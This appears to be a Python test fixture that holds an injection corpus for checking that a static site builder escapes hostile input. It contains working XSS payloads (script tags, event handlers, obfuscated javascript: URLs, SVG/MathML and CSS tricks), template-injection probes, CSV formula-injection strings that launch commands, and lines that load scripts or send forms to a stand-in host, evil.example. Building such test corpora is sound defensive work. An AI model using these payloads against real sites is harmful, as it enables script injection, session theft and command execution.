"""The injection corpus: hostile strings pushed through every entry point.

Every vector carries a unique marker (`XSS001Q`, `XSS002Q`, …) so that a
survivor found anywhere in the built site can be traced back to its vector.
Markers are fixed-width and end in `Q`, so no marker is a prefix of another.

`live_raw` says whether the payload, pasted unescaped into an HTML body, is
something the detector must flag; the detector's canary test relies on it.
`evaluated` is what a template engine would leave behind had it run the
payload (its absence from the output proves nobody evaluated it).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

MARKER_RE = re.compile(r"XSS[0-9A-Z]\d\dQ")


@dataclass(frozen=True)
class Vector:
    id: str
    category: str
    payload: str
    live_raw: bool = True
    evaluated: str | None = None

    @property
    def marker(self) -> str:
        return f"XSS{self.id}Q"


def _v(num: int, category: str, payload: str, live_raw: bool = True, evaluated: str | None = None) -> Vector:
    vid = f"{num:03d}"
    marker = f"XSS{vid}Q"
    return Vector(
        vid,
        category,
        payload.replace("MARK", marker),
        live_raw,
        evaluated.replace("MARK", marker) if evaluated else None,
    )


VECTORS: tuple[Vector, ...] = (
    # Script tags in every casing and encoding.
    _v(1, "script", "<script>alert('MARK')</script>"),
    _v(2, "script", "<ScRiPt>alert('MARK')</sCrIpT>"),
    _v(3, "script", "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>"),
    _v(4, "script", "<script/x>alert('MARK')</script>"),
    _v(5, "script", "<script\n>alert('MARK')</script\n>"),
    _v(6, "script", "&lt;script&gt;alert('MARK')&lt;/script&gt;", live_raw=False),
    _v(7, "script", "&amp;lt;script&amp;gt;alert('MARK')&amp;lt;/script&amp;gt;", live_raw=False),
    _v(8, "script", "%3Cscript%3Ealert('MARK')%3C/script%3E", live_raw=False),
    _v(9, "script", "\\u003cscript\\u003ealert('MARK')\\u003c/script\\u003e", live_raw=False),
    _v(10, "script", "<scr<script>ipt>alert('MARK')</scr</script>ipt>", live_raw=False),
    _v(11, "script", "<<script>>alert('MARK')<</script>>"),
    _v(12, "script", "<script>alert('MARK')"),
    _v(13, "script", "<script type=\"module\">import('//evil.example/MARK.js')</script>"),
    _v(14, "script", "</title><script>alert('MARK')</script>"),
    _v(15, "script", "</script><script>alert('MARK')</script>"),
    _v(16, "script", "<!--<script>alert('MARK')</script>-->", live_raw=False),
    _v(17, "script", "\u2028\u2029</ScRipt ><script>alert('MARK')</script>"),
    _v(18, "script", "<textarea></textarea><script>alert('MARK')</script>"),
    _v(19, "script", "<xmp><script>alert('MARK')</script></xmp>", live_raw=False),
    _v(20, "script", "]]><script>alert('MARK')</script><![CDATA["),
    # Event handlers.
    _v(21, "handler", "<img src=x onerror=alert('MARK')>"),
    _v(22, "handler", "<IMG SRC=x OnErRoR=\"alert('MARK')\">"),
    _v(23, "handler", "<body onload=alert('MARK')>"),
    _v(24, "handler", "<div onmouseover=\"alert('MARK')\">hover</div>"),
    _v(25, "handler", "<input onfocus=alert('MARK') autofocus>"),
    _v(26, "handler", "<details open ontoggle=alert('MARK')>x</details>"),
    _v(27, "handler", "<video><source onerror=\"alert('MARK')\"></video>"),
    _v(28, "handler", '<a href="https://example.org/" onclick="alert(\'MARK\')">ok link</a>'),
    _v(29, "handler", '<p title="x" onpointerenter=\'alert("MARK")\'>x</p>'),
    _v(30, "handler", "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\"></noscript>"),
    # Script URLs with entity and whitespace tricks.
    _v(31, "url", "<a href=\"javascript:alert('MARK')\">click</a>"),
    _v(32, "url", "<a href=\"JaVaScRiPt:alert('MARK')\">click</a>"),
    _v(33, "url", "<a href=\"jav&#x09;ascript:alert('MARK')\">click</a>"),
    _v(34, "url", "<a href=\"&#106;avascript:alert('MARK')\">click</a>"),
    _v(35, "url", "<a href=\" javascript:alert('MARK')\">click</a>"),
    _v(36, "url", "<a href=\"java\nscript:alert('MARK')\">click</a>"),
    _v(
        37,
        "url",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('MARK')\">click</a>",
    ),
    _v(38, "url", "<a href=\"vbscript:msgbox('MARK')\">click</a>"),
    _v(39, "url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK">click</a>'),
    _v(40, "url", "<a href=\"&#x01;javascript:alert('MARK')\">click</a>"),
    _v(41, "url", "<a href=\"javascript&colon;alert('MARK')\">click</a>"),
    _v(42, "url", "<a href=\"  JAVASCRIPT :alert('MARK')\">click</a>"),
    _v(43, "url", "<img src=\"javascript:alert('MARK')\">"),
    # SVG and MathML.
    _v(44, "svg", "<svg onload=alert('MARK')>"),
    _v(45, "svg", "<svg><script>alert('MARK')</script></svg>"),
    _v(46, "svg", '<svg><a xlink:href="javascript:alert(\'MARK\')"><text x="20" y="20">x</text></a></svg>'),
    _v(47, "svg", '<svg><animate attributeName="href" values="javascript:alert(\'MARK\')"/></svg>'),
    _v(48, "svg", '<svg><set attributeName="onmouseover" to="alert(\'MARK\')"/></svg>'),
    _v(
        49,
        "mathml",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')></style></mglyph></table></mtext></math>",
    ),
    _v(50, "mathml", "<math href=\"javascript:alert('MARK')\">CLICK</math>"),
    # Embedding, forms, redirects, base.
    _v(51, "embed", '<iframe src="https://evil.example/MARK"></iframe>'),
    _v(52, "embed", "<iframe srcdoc=\"&lt;script&gt;alert('MARK')&lt;/script&gt;\"></iframe>"),
    _v(53, "embed", "<iframe src=\"data:text/html,<script>alert('MARK')</script>\"></iframe>"),
    _v(54, "embed", "<object data=\"javascript:alert('MARK')\"></object>"),
    _v(55, "embed", '<embed src="https://evil.example/MARK.swf">'),
    _v(56, "form", '<form action="https://evil.example/MARK"><input name=p><button>go</button></form>'),
    _v(57, "form", "<button formaction=\"javascript:alert('MARK')\">go</button>"),
    _v(58, "meta", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">'),
    _v(59, "meta", '<base href="https://evil.example/MARK/">'),
    _v(60, "meta", '<link rel="stylesheet" href="javascript:alert(\'MARK\')">'),
    # CSS.
    _v(61, "css", "<div style=\"background:url(javascript:alert('MARK'))\">x</div>"),
    _v(62, "css", "<div style=\"width: expression(alert('MARK'))\">x</div>"),
    _v(63, "css", "<style>body{background:url(\"javascript:alert('MARK')\")}</style>"),
    _v(64, "css", "<p style=\"x:expre/**/ssion(alert('MARK'))\">x</p>"),
    # Broken and unclosed markup.
    _v(65, "broken", "<p>unclosed <b><i>MARK <a href=\"javascript:alert('MARK')\""),
    _v(66, "broken", '<img src="x" alt="MARK"" onerror="alert(\'MARK\')">'),
    _v(67, "broken", "<!-- MARK unclosed comment", live_raw=False),
    # Markdown links, images, reference links, autolinks, raw HTML, attr_list.
    _v(68, "markdown", "[click](javascript:alert('MARK'))", live_raw=False),
    _v(69, "markdown", "![img](javascript:alert('MARK'))", live_raw=False),
    _v(70, "markdown", "see [the ref][xss70]\n\n[xss70]: javascript:alert('MARK')", live_raw=False),
    _v(71, "markdown", "<javascript:alert('MARK')>", live_raw=False),
    _v(72, "markdown", "[click](JaVaScRiPt:alert('MARK') \"title\")", live_raw=False),
    _v(73, "markdown", "[click](&#106;avascript:alert('MARK'))", live_raw=False),
    _v(74, "markdown", "[click](<javascript:alert('MARK')>)", live_raw=False),
    _v(75, "markdown", "[x](data:text/html;base64,PHNjcmlwdD4=#MARK)", live_raw=False),
    _v(76, "markdown", "Paragraph MARK\n{: onclick=\"alert('MARK')\" }", live_raw=False),
    _v(77, "markdown", "## Heading MARK {: onmouseover=\"alert('MARK')\" }", live_raw=False),
    _v(78, "markdown", "[link](https://example.org/){: onclick=\"alert('MARK')\" }", live_raw=False),
    _v(79, "markdown", "| a | b |\n|---|---|\n| <img src=x onerror=alert('MARK')> | x \\| y |"),
    _v(80, "markdown", "<div markdown=\"1\">[x](javascript:alert('MARK'))</div>", live_raw=False),
    _v(81, "markdown", '[x](https://example.org/ "a\\" onmouseover=\\"alert(\'MARK\')")', live_raw=False),
    _v(82, "markdown", "[x](https://example.org/\" onmouseover=\"alert('MARK'))", live_raw=False),
    _v(83, "markdown", "*emph <img src=x onerror=alert('MARK')>*"),
    _v(84, "markdown", "```\n</code></pre><script>alert('MARK')</script>\n```"),
    _v(85, "markdown", "`<script>alert('MARK')</script>`", live_raw=True),
    # Template syntax: must stay literal.
    _v(86, "template", "{{ 7*191 }}MARK", live_raw=False, evaluated="1337MARK"),
    _v(87, "template", "{% raw %}MARK{% endraw %}", live_raw=False),
    _v(88, "template", '{% endraw %}{{ "MARK" ~ "EVAL" }}{% raw %}', live_raw=False, evaluated="MARKEVAL"),
    _v(89, "template", "${7*191}MARK", live_raw=False, evaluated="1337MARK"),
    _v(90, "template", "{{ config.__class__.__init__.__globals__ }}MARK", live_raw=False),
    _v(91, "template", "<%= 7*191 %>MARK", live_raw=False, evaluated="1337MARK"),
    _v(92, "template", "#{7*191}MARK", live_raw=False, evaluated="1337MARK"),
    # Spreadsheet formulas (CSV exports).
    _v(93, "csv", '=HYPERLINK("https://evil.example/MARK","x")', live_raw=False),
    _v(94, "csv", "+cmd|'/C calc'!A0 MARK", live_raw=False),
    _v(95, "csv", "@SUM(1+1)MARK", live_raw=False),
    _v(96, "csv", "-2+3+cmd|' /C calc'!MARK", live_raw=False),
    # Percent-encoded schemes: harmless as written, live if someone decodes them once.
    _v(97, "markdown", "[click](javascript%3Aalert('MARK'))", live_raw=False),
    _v(98, "markdown", "[click](%6Aavascript:alert('MARK'))", live_raw=False),
    _v(99, "markdown", "[click](JAVASCRIPT%3aalert('MARK'))", live_raw=False),
    _v(100, "url", "<a href=\"javascript%3Aalert('MARK')\">click</a>", live_raw=False),
    _v(101, "url", "[click](data%3Atext/html;base64,PHNjcmlwdD4=#MARK)", live_raw=False),
)

BY_MARKER: dict[str, Vector] = {v.marker: v for v in VECTORS}

# Valid http(s) URLs whose characters try to break out of a Markdown link or an
# attribute. A checker may accept or refuse each; accepted ones must be inert.
URL_VECTORS: tuple[str, ...] = (
    "https://example.org/x?a=1&b=2\"><script>alert('XSSU01Q')</script>",
    "https://example.org/x) [y](javascript:alert('XSSU02Q')",
    "https://example.org/x'onmouseover='alert(XSSU03Q)",
    "https://example.org/<svg/onload=alert('XSSU04Q')>",
    "https://example.org/x\" onclick=\"alert('XSSU05Q')",
    "https://example.org/x#\"><img src=x onerror=alert('XSSU07Q')>",
    "https://example.org/XSSU08Q)<script>alert(1)</script>",
    "https://example.org/XSSU09Q?q={{7*191}}",
)

# URLs every checker must refuse (or drop) wherever a URL is written.
BAD_URLS: tuple[str, ...] = (
    "javascript:alert('XSSB01Q')",
    "JaVaScRiPt:alert('XSSB02Q')",
    " javascript:alert('XSSB03Q')",
    "jav\tascript:alert('XSSB04Q')",
    "vbscript:msgbox('XSSB05Q')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSSB06Q",
    "java\nscript:alert('XSSB07Q')",
    "&#106;avascript:alert('XSSB08Q')",
)


def markers_in(text: str) -> list[str]:
    return sorted(set(MARKER_RE.findall(text)))


def all_payloads(separator: str = "\n\n") -> str:
    return separator.join(v.payload for v in VECTORS)
